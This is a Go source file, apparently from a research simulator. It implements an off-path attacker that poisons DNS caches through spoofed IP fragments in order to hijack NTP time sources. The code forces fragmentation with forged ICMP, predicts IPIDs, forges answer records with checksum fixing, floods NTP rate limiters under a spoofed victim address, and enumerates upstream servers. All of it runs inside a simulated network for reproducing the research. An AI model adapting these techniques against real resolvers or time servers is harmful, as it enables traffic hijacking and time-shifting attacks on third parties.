// Package attack implements the off-path attacker's toolkit from the paper:
//
//	§III-1  forcing nameservers to fragment via spoofed ICMP
//	        Fragmentation Needed messages,
//	§III-2  IPID probing and extrapolation,
//	§III-2  crafting spoofed second fragments that carry malicious
//	        records,
//	§III-3  fixing the UDP checksum through attacker-controlled slack
//	        bytes,
//	§IV-A   the 30-second defragmentation-cache planting loop used when
//	        query timing is unpredictable,
//	§IV-B   rate-limit abuse floods that break a client's existing NTP
//	        associations, and upstream discovery via pool enumeration,
//	        RefID leakage (P2) and the mode-7 config interface.
//
// The attacker is strictly off-path: it observes only packets addressed to
// its own hosts and injects packets with spoofed sources via
// simnet.Network.Inject.
package attack

import (
	"bytes"
	"errors"
	"fmt"
	"math/rand"
	"strconv"
	"time"

	"dnstime/internal/dnswire"
	"dnstime/internal/ipv4"
	"dnstime/internal/ntpwire"
	"dnstime/internal/obs"
	"dnstime/internal/simclock"
	"dnstime/internal/simnet"
	"dnstime/internal/simrand"
	"dnstime/internal/udp"
)

// Errors returned by the toolkit.
var (
	ErrNoProbes       = errors.New("attack: no IPID probes answered")
	ErrShapeMismatch  = errors.New("attack: malicious response shape differs from template")
	ErrNoSlack        = errors.New("attack: no attacker-controlled slack bytes in second fragment")
	ErrFragmentBounds = errors.New("attack: response does not span two fragments at this MTU")
)

// Attacker is an off-path attacker with one network vantage point.
type Attacker struct {
	host  *simnet.Host
	net   *simnet.Network
	clock *simclock.Clock
	rng   *rand.Rand
	tr    obs.Tracer // phase-event tracer; obs.Nop (or nil, for the zero value) is off

	// InjectedPackets counts spoofed packets sent (attack volume).
	InjectedPackets int

	wire []byte // encode scratch; SendUDP copies before returning

	// Fragment-building scratch: a planting campaign rebuilds its spoofed
	// fragments every round, so the template decode, the twin re-encode,
	// the wire images and the candidate packets are all reused. Inject
	// copies packets on entry, making inject-then-rebuild safe.
	fragDec  dnswire.Decoder
	fragMsg  dnswire.Message
	templBuf []byte
	twinBuf  []byte
	realWire []byte
	malWire  []byte
	spoofF2  []byte
	fragPkts []ipv4.Packet
	frags    []*ipv4.Packet
}

// New creates an attacker operating from host.
func New(host *simnet.Host, seed int64) *Attacker {
	return &Attacker{
		host:  host,
		net:   host.Network(),
		clock: host.Clock(),
		rng:   rand.New(simrand.New(seed)),
		tr:    obs.Nop,
	}
}

// SetTracer installs the tracer receiving the attacker's phase events
// (ICMP forcing, template fetches, IPID probes, floods), stamped with
// virtual time. nil disables. The lab installs it on every build and
// pool reset; tracing is observation only and never changes behaviour.
func (a *Attacker) SetTracer(tr obs.Tracer) {
	if tr == nil {
		tr = obs.Nop
	}
	a.tr = tr
}

// traceOn reports whether phase events should be emitted (guards the
// detail-string formatting; the zero-value Attacker has a nil tracer).
func (a *Attacker) traceOn() bool { return a.tr != nil && a.tr.Enabled() }

// Reset restores the attacker to the observable state New(host, seed)
// produces: the RNG stream of a fresh simrand.New(seed), re-seeded in
// place, and a zero packet counter. All fragment-building scratch survives
// — a pooled lab reuses its attacker every campaign seed.
func (a *Attacker) Reset(seed int64) {
	a.rng.Seed(seed)
	a.InjectedPackets = 0
}

// Host returns the attacker's own host.
func (a *Attacker) Host() *simnet.Host { return a.host }

// Inject sends one spoofed packet and counts it.
func (a *Attacker) Inject(pkt *ipv4.Packet) {
	a.InjectedPackets++
	a.net.Inject(pkt)
}

// ---------------------------------------------------------------------------
// §III-1: forcing fragmentation.

// ForceFragmentation spoofs an ICMP Fragmentation Needed toward ns claiming
// that packets from ns to victim must not exceed mtu. The ICMP's claimed
// sender is an arbitrary "router" address — real stacks do not authenticate
// it.
func (a *Attacker) ForceFragmentation(ns, victim ipv4.Addr, mtu int) {
	if a.traceOn() {
		a.tr.Event(a.clock.Now(), "attack", "force-frag",
			"ns="+ns.String()+" victim="+victim.String()+" mtu="+strconv.Itoa(mtu))
	}
	msg := &ipv4.ICMPFragNeeded{
		NextHopMTU: uint16(mtu),
		OrigSrc:    ns,
		OrigDst:    victim,
		OrigProto:  ipv4.ProtoUDP,
	}
	a.Inject(&ipv4.Packet{
		Src:     ipv4.Addr{192, 0, 2, 254}, // fictitious on-path router
		Dst:     ns,
		Proto:   ipv4.ProtoICMP,
		TTL:     ipv4.DefaultTTL,
		Payload: msg.Marshal(),
	})
}

// ---------------------------------------------------------------------------
// §III-2: IPID probing and extrapolation.

// ProbeIPIDs sends n DNS probe queries for probeName to ns, spaced by
// `spacing`, observing the IPIDs of the responses. done receives the
// observed IPIDs in order.
func (a *Attacker) ProbeIPIDs(ns ipv4.Addr, probeName string, n int, spacing time.Duration, done func([]uint16, error)) {
	probeStart := a.clock.Now()
	var ids []uint16
	prevObs := swapRawObserver(a.host, func(pkt *ipv4.Packet) {
		if pkt.Src == ns && pkt.Proto == ipv4.ProtoUDP && !pkt.IsFragment() {
			ids = append(ids, pkt.ID)
		}
		if pkt.Src == ns && pkt.Proto == ipv4.ProtoUDP && pkt.IsFragment() && pkt.FragOff == 0 {
			ids = append(ids, pkt.ID)
		}
	})
	port := a.host.AllocPort()
	_ = a.host.HandleUDP(port, func(ipv4.Addr, uint16, []byte) {})
	probe := func() {
		q := dnswire.NewQuery(uint16(a.rng.Intn(1<<16)), probeName, dnswire.TypeA, false)
		wire, err := q.AppendMarshal(a.wire[:0])
		if err != nil {
			return
		}
		a.wire = wire
		a.InjectedPackets++
		_, _ = a.host.SendUDP(ns, port, 53, wire)
	}
	for i := 0; i < n; i++ {
		a.clock.After(time.Duration(i)*spacing, probe)
	}
	a.clock.Schedule(time.Duration(n)*spacing+2*time.Second, func() {
		a.host.UnhandleUDP(port)
		a.host.ObserveRaw(prevObs)
		if a.traceOn() {
			a.tr.Span(probeStart, a.clock.Now(), "attack", "probe-ipids",
				"answered="+strconv.Itoa(len(ids)))
		}
		if len(ids) == 0 {
			done(nil, ErrNoProbes)
			return
		}
		done(ids, nil)
	})
}

// swapRawObserver installs fn and returns the previous observer (there is
// no getter on simnet.Host, so the attacker tracks it itself; nil is fine).
func swapRawObserver(h *simnet.Host, fn func(*ipv4.Packet)) func(*ipv4.Packet) {
	h.ObserveRaw(fn)
	return nil
}

// PredictIPIDs extrapolates a window of IPID candidates from probe
// observations: it estimates the per-probe increment and projects `ahead`
// further allocations, returning a window of width `width` centred there.
func PredictIPIDs(probes []uint16, ahead, width int) []uint16 {
	if len(probes) == 0 {
		return nil
	}
	last := probes[len(probes)-1]
	inc := 1
	if len(probes) >= 2 {
		// Average observed increment (mod 2^16), at least 1.
		total := int(uint16(probes[len(probes)-1] - probes[0]))
		inc = total / (len(probes) - 1)
		if inc < 1 {
			inc = 1
		}
	}
	base := int(last) + inc*ahead
	out := make([]uint16, 0, width)
	for i := 0; i < width; i++ {
		out = append(out, uint16(base+i))
	}
	return out
}

// ---------------------------------------------------------------------------
// §III-2/3: crafting the spoofed second fragment.

// PoisonPlan describes one cache-poisoning attempt.
type PoisonPlan struct {
	// NS is the authoritative nameserver whose response is hijacked.
	NS ipv4.Addr
	// Resolver is the victim resolver.
	Resolver ipv4.Addr
	// Template is the predicted full DNS response payload (the attacker
	// learns it by querying the nameserver itself; only the first-fragment
	// fields — TXID, ports, checksum — differ toward the victim).
	Template []byte
	// Malicious are the addresses to substitute into the A records.
	Malicious []ipv4.Addr
	// TTL overrides the record TTLs (e.g. > 24 h for the Chronos attack);
	// zero keeps the template's TTLs.
	TTL uint32
	// MTU is the fragment size the nameserver was forced down to.
	MTU int
	// IPIDs is the candidate IPID window to cover.
	IPIDs []uint16
}

// BuildSpoofedFragments crafts one spoofed second fragment per candidate
// IPID. Each fragment reassembles with the nameserver's real first fragment
// (which carries TXID, ports and UDP checksum) into a response whose answer
// addresses are the attacker's and whose UDP checksum still verifies.
// The returned packets share one payload slice — only the IPID varies, and
// Inject copies packets on entry — so mutating one payload affects all.
func BuildSpoofedFragments(plan PoisonPlan) ([]*ipv4.Packet, error) {
	var a Attacker
	return a.BuildSpoofedFragments(plan)
}

// BuildSpoofedFragments is the scratch-reusing form: the returned packets
// and their shared payload belong to the attacker and stay valid only until
// its next call. Inject copies on entry, so the planting loop's
// rebuild-inject-repeat cycle never observes the reuse.
func (a *Attacker) BuildSpoofedFragments(plan PoisonPlan) ([]*ipv4.Packet, error) {
	mal, err := a.maliciousTwin(plan.Template, plan.Malicious, plan.TTL)
	if err != nil {
		return nil, err
	}
	// Both datagrams as the wire sees them: UDP header + DNS payload. The
	// attacker does not know the real ports/checksum but they sit in the
	// first fragment; any placeholder works for computing the split.
	a.realWire = growZeroHeader(a.realWire, udp.HeaderLen+len(plan.Template))
	realWire := a.realWire
	copy(realWire[udp.HeaderLen:], plan.Template)
	a.malWire = growZeroHeader(a.malWire, udp.HeaderLen+len(mal))
	malWire := a.malWire
	copy(malWire[udp.HeaderLen:], mal)

	cut := (plan.MTU - ipv4.HeaderLen) &^ 7
	if cut <= udp.HeaderLen || cut >= len(realWire) {
		return nil, fmt.Errorf("%w: len=%d cut=%d", ErrFragmentBounds, len(realWire), cut)
	}
	realF2 := realWire[cut:]
	a.spoofF2 = append(a.spoofF2[:0], malWire[cut:]...)
	spoofF2 := a.spoofF2

	slack, err := findSlack(spoofF2)
	if err != nil {
		return nil, err
	}
	if err := udp.FixSum(realF2, spoofF2, slack); err != nil {
		return nil, fmt.Errorf("attack: %w", err)
	}
	if a.traceOn() {
		a.tr.Event(a.clock.Now(), "attack", "build-frags",
			"candidates="+strconv.Itoa(len(plan.IPIDs))+" cut="+strconv.Itoa(cut))
	}

	if cap(a.fragPkts) < len(plan.IPIDs) {
		a.fragPkts = make([]ipv4.Packet, len(plan.IPIDs))
	}
	pkts := a.fragPkts[:len(plan.IPIDs)]
	a.frags = a.frags[:0]
	for i, id := range plan.IPIDs {
		// All candidate fragments share one payload: Inject copies packets
		// into the network's pool, so the shared slice is never retained.
		pkts[i] = ipv4.Packet{
			Src:     plan.NS,
			Dst:     plan.Resolver,
			ID:      id,
			Proto:   ipv4.ProtoUDP,
			TTL:     ipv4.DefaultTTL,
			MF:      false,
			FragOff: cut,
			Payload: spoofF2,
		}
		a.frags = append(a.frags, &pkts[i])
	}
	return a.frags, nil
}

// growZeroHeader returns b resized to n bytes with the UDP-header prefix
// zeroed (the rest is fully overwritten by the caller).
func growZeroHeader(b []byte, n int) []byte {
	if cap(b) < n {
		return make([]byte, n)
	}
	b = b[:n]
	clear(b[:udp.HeaderLen])
	return b
}

// MaliciousTwin parses a predicted DNS response and re-encodes it with the
// answer A-record addresses replaced by the attacker's (cycling through
// them) and, optionally, the TTLs overridden. The result must have exactly
// the template's length, since the first fragment (with the length-bearing
// headers) is the nameserver's own.
func MaliciousTwin(template []byte, malicious []ipv4.Addr, ttl uint32) ([]byte, error) {
	var a Attacker
	return a.maliciousTwin(template, malicious, ttl)
}

// maliciousTwin is MaliciousTwin through the attacker's decode and encode
// scratch; the returned bytes are valid until the next call.
func (a *Attacker) maliciousTwin(template []byte, malicious []ipv4.Addr, ttl uint32) ([]byte, error) {
	if len(malicious) == 0 {
		return nil, fmt.Errorf("%w: no malicious addresses", ErrShapeMismatch)
	}
	m := &a.fragMsg
	if err := a.fragDec.UnmarshalInto(m, template); err != nil {
		return nil, fmt.Errorf("attack: parse template: %w", err)
	}
	k := 0
	for i := range m.Answers {
		if m.Answers[i].Type == dnswire.TypeA {
			m.Answers[i].Addr = malicious[k%len(malicious)]
			k++
		}
		if ttl > 0 {
			m.Answers[i].TTL = ttl
		}
	}
	out, err := m.AppendMarshal(a.twinBuf[:0])
	if err != nil {
		return nil, fmt.Errorf("attack: re-encode: %w", err)
	}
	a.twinBuf = out
	if len(out) != len(template) {
		return nil, fmt.Errorf("%w: %d != %d bytes", ErrShapeMismatch, len(out), len(template))
	}
	return out, nil
}

// findSlack locates two adjacent 16-bit-aligned bytes inside the padding
// filler (runs of 'p' emitted by dnsauth's response padding) that the
// attacker may repurpose to fix the checksum.
func findSlack(f2 []byte) (int, error) {
	run := 0
	for i, b := range f2 {
		if b == 'p' {
			run++
			if run >= 4 {
				off := (i - 2) &^ 1
				return off, nil
			}
		} else {
			run = 0
		}
	}
	return 0, ErrNoSlack
}

// ---------------------------------------------------------------------------
// §IV-A: the defragmentation-cache planting loop.

// PlantLoop repeatedly injects the given spoofed fragments (refreshed via
// rebuild, which may update IPID predictions) every interval, until stopped.
// This is the "periodically plant the spoofed fragment every 30 seconds"
// strategy used when query timing is unpredictable.
type PlantLoop struct {
	ticker *simclock.Ticker
	// Rounds counts planting rounds performed.
	Rounds int
}

// StartPlantLoop begins planting. rebuild is called each round to produce
// the fragments to inject (return nil to skip a round).
func (a *Attacker) StartPlantLoop(interval time.Duration, rebuild func() []*ipv4.Packet) *PlantLoop {
	pl := &PlantLoop{}
	inject := func() {
		pl.Rounds++
		for _, f := range rebuild() {
			a.Inject(f)
		}
	}
	inject() // first round immediately
	pl.ticker = a.clock.Tick(interval, inject)
	return pl
}

// Stop ends the planting loop.
func (pl *PlantLoop) Stop() { pl.ticker.Stop() }

// ---------------------------------------------------------------------------
// Query triggering.

// TriggerOpenResolverQuery makes the victim resolver look up name by
// sending it a recursive query from the attacker's own address — possible
// whenever the resolver is open, and standing in for the "other systems
// sharing the resolver" (Email, web) trigger of §IV-A(2).
func (a *Attacker) TriggerOpenResolverQuery(resolver ipv4.Addr, name string) {
	if a.traceOn() {
		a.tr.Event(a.clock.Now(), "attack", "trigger-query", name)
	}
	q := dnswire.NewQuery(uint16(a.rng.Intn(1<<16)), name, dnswire.TypeA, true)
	wire, err := q.Marshal()
	if err != nil {
		return
	}
	port := a.host.AllocPort()
	_ = a.host.HandleUDP(port, func(ipv4.Addr, uint16, []byte) {})
	a.clock.Schedule(5*time.Second, func() { a.host.UnhandleUDP(port) })
	a.InjectedPackets++
	_, _ = a.host.SendUDP(resolver, port, 53, wire)
}

// FetchTemplate queries ns directly for name and hands the raw response
// payload to done — the attacker's way of learning the response template
// whose second fragment it will later replace.
func (a *Attacker) FetchTemplate(ns ipv4.Addr, name string, done func([]byte, error)) {
	fetchStart := a.clock.Now()
	port := a.host.AllocPort()
	var timer *simclock.Timer
	if err := a.host.HandleUDP(port, func(src ipv4.Addr, _ uint16, payload []byte) {
		if src != ns {
			return
		}
		timer.Stop()
		a.host.UnhandleUDP(port)
		if a.traceOn() {
			a.tr.Span(fetchStart, a.clock.Now(), "attack", "fetch-template",
				"bytes="+strconv.Itoa(len(payload)))
		}
		// The handler's payload aliases a pooled packet buffer, so done gets
		// a copy — made in the attacker's reused template buffer, which stays
		// valid until the attacker's next FetchTemplate (a planting round
		// consumes the template before the next round re-fetches it).
		a.templBuf = append(a.templBuf[:0], payload...)
		done(a.templBuf, nil)
	}); err != nil {
		done(nil, err)
		return
	}
	timer = a.clock.Schedule(3*time.Second, func() {
		a.host.UnhandleUDP(port)
		if a.traceOn() {
			a.tr.Span(fetchStart, a.clock.Now(), "attack", "fetch-template", "timeout")
		}
		done(nil, fmt.Errorf("attack: template fetch timed out"))
	})
	q := dnswire.NewQuery(uint16(a.rng.Intn(1<<16)), name, dnswire.TypeA, false)
	wire, err := q.Marshal()
	if err != nil {
		timer.Stop()
		a.host.UnhandleUDP(port)
		done(nil, err)
		return
	}
	a.InjectedPackets++
	_, _ = a.host.SendUDP(ns, port, 53, wire)
}

// ---------------------------------------------------------------------------
// §IV-B: rate-limit abuse and upstream discovery.

// RateLimitFlood spoofs mode-3 NTP queries with the victim's source address
// toward server: an initial burst to trip the limiter, then periodic
// re-pokes that keep the hold-down armed. Returns a stop function.
func (a *Attacker) RateLimitFlood(server, victim ipv4.Addr, repoke time.Duration) func() {
	if a.traceOn() {
		a.tr.Event(a.clock.Now(), "attack", "flood-start",
			"server="+server.String()+" victim="+victim.String())
	}
	// The spoofed query bytes never change across the flood: build the
	// checksummed wire form once and re-inject it (Inject copies on entry).
	payload := ntpwire.NewClientPacket(a.clock.Now()).Marshal()
	d := &udp.Datagram{Header: udp.Header{SrcPort: ntpwire.Port, DstPort: ntpwire.Port}, Payload: payload}
	wire := udp.WithChecksum(victim, server, d.Marshal())
	pkt := &ipv4.Packet{Src: victim, Dst: server, Proto: ipv4.ProtoUDP, TTL: 64, Payload: wire}
	inject := func() {
		a.Inject(pkt)
	}
	// The initial burst must exceed the server's token-bucket capacity so
	// the hold-down trips; the periodic re-pokes then keep it armed.
	for i := 0; i < 40; i++ {
		a.clock.After(time.Duration(i)*100*time.Millisecond, inject)
	}
	tk := a.clock.Tick(repoke, inject)
	return tk.Stop
}

// DiscoverUpstreamViaRefID queries the victim NTP client (which also serves
// mode 3) and extracts its current sync source from the response RefID —
// the P2 discovery technique.
func (a *Attacker) DiscoverUpstreamViaRefID(victim ipv4.Addr, done func(ipv4.Addr, error)) {
	if a.traceOn() {
		a.tr.Event(a.clock.Now(), "attack", "refid-probe", "victim="+victim.String())
	}
	port := a.host.AllocPort()
	var timer *simclock.Timer
	if err := a.host.HandleUDP(port, func(src ipv4.Addr, _ uint16, payload []byte) {
		if src != victim {
			return
		}
		pkt, err := ntpwire.Unmarshal(payload)
		if err != nil {
			return
		}
		timer.Stop()
		a.host.UnhandleUDP(port)
		if addr, ok := pkt.RefIDAddr(); ok && !addr.IsZero() {
			done(addr, nil)
			return
		}
		done(ipv4.Addr{}, fmt.Errorf("attack: refid is not an upstream address"))
	}); err != nil {
		done(ipv4.Addr{}, err)
		return
	}
	timer = a.clock.Schedule(3*time.Second, func() {
		a.host.UnhandleUDP(port)
		done(ipv4.Addr{}, fmt.Errorf("attack: refid probe timed out"))
	})
	q := ntpwire.NewClientPacket(a.clock.Now())
	a.InjectedPackets++
	_, _ = a.host.SendUDP(victim, port, ntpwire.Port, q.Marshal())
}

// DiscoverUpstreamsViaConfig reads the victim server's mode-7 config
// interface, returning configured names and current upstream addresses.
func (a *Attacker) DiscoverUpstreamsViaConfig(victim ipv4.Addr, done func(names []string, addrs []ipv4.Addr, err error)) {
	port := a.host.AllocPort()
	var timer *simclock.Timer
	if err := a.host.HandleUDP(port, func(src ipv4.Addr, _ uint16, payload []byte) {
		if src != victim {
			return
		}
		names, addrs, ok := parseConfig(payload)
		if !ok {
			return
		}
		timer.Stop()
		a.host.UnhandleUDP(port)
		done(names, addrs, nil)
	}); err != nil {
		done(nil, nil, err)
		return
	}
	timer = a.clock.Schedule(3*time.Second, func() {
		a.host.UnhandleUDP(port)
		done(nil, nil, fmt.Errorf("attack: config interface closed"))
	})
	a.InjectedPackets++
	_, _ = a.host.SendUDP(victim, port, ntpwire.Port, []byte{byte(ntpwire.ModePrivate)})
}

// parseConfig duplicates ntpserv.ParseConfigResponse without importing the
// server package (the attacker parses wire bytes, not server internals).
func parseConfig(payload []byte) (names []string, addrs []ipv4.Addr, ok bool) {
	if len(payload) < 1 || ntpwire.Mode(payload[0]&0x7) != ntpwire.ModePrivate {
		return nil, nil, false
	}
	for _, line := range bytes.Split(payload[1:], []byte{'\n'}) {
		s := string(line)
		const srvPrefix, peerPrefix = "server ", "peer "
		switch {
		case len(s) > len(srvPrefix) && s[:len(srvPrefix)] == srvPrefix:
			names = append(names, s[len(srvPrefix):])
		case len(s) > len(peerPrefix) && s[:len(peerPrefix)] == peerPrefix:
			if a, err := ipv4.ParseAddr(s[len(peerPrefix):]); err == nil {
				addrs = append(addrs, a)
			}
		}
	}
	return names, addrs, true
}

// EnumeratePool collects the candidate upstream population by repeatedly
// resolving the pool domain directly at the nameserver (§IV-B2a: "the
// attacker queries the DNS system ... and creates a list of possible
// upstream NTP server addresses").
func (a *Attacker) EnumeratePool(ns ipv4.Addr, domain string, rounds int, done func([]ipv4.Addr)) {
	seen := make(map[ipv4.Addr]struct{})
	var order []ipv4.Addr
	var step func(i int)
	step = func(i int) {
		if i >= rounds {
			done(order)
			return
		}
		a.FetchTemplate(ns, domain, func(payload []byte, err error) {
			if err == nil {
				if m, err := dnswire.Unmarshal(payload); err == nil {
					for _, addr := range m.AddrsInAnswer(domain) {
						if _, ok := seen[addr]; !ok {
							seen[addr] = struct{}{}
							order = append(order, addr)
						}
					}
				}
			}
			a.clock.Schedule(200*time.Millisecond, func() { step(i + 1) })
		})
	}
	step(0)
}
